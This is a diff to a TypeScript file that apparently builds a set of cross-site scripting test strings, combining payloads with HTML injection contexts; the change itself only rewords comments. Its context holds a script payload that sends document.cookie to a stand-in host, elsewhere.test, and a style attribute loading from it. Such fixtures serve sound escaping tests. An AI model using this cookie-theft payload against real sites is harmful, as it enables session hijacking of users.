@@ -1,6 +1,6 @@
 /**
- * Ways to make a page run a script, or send requests elsewhere, if it treats a text as HTML. `go`
- * is the script.
+ * Ways to make a page run a script, or send requests elsewhere, if it treats text as HTML. `go` is
+ * the script.
  */
 const go = `fetch('https://elsewhere.test/'+document.cookie),alert(1)`;
 const attempts: readonly string[] = [
@@ -31,7 +31,7 @@ const attempts: readonly string[] = [
   `<p style="background:url(https://elsewhere.test/b.png)">x`,
 ];
 
-/** Contexts in which a text could be treated as HTML. */
+/** Contexts in which text could be treated as HTML. */
 const places: readonly ((attempt: string) => string)[] = [
   (attempt) => attempt,
   (attempt) => `">${attempt}`,
@@ -47,5 +47,5 @@ const places: readonly ((attempt: string) => string)[] = [
   (attempt) => `\u202e\u0007${attempt}\u2028`, // The service stores no text with NUL.
 ];
 
-/** 300 texts: each payload in each context. */
+/** 300 strings: each payload in each context. */
 export const payloads: readonly string[] = places.flatMap((place) => attempts.map(place));
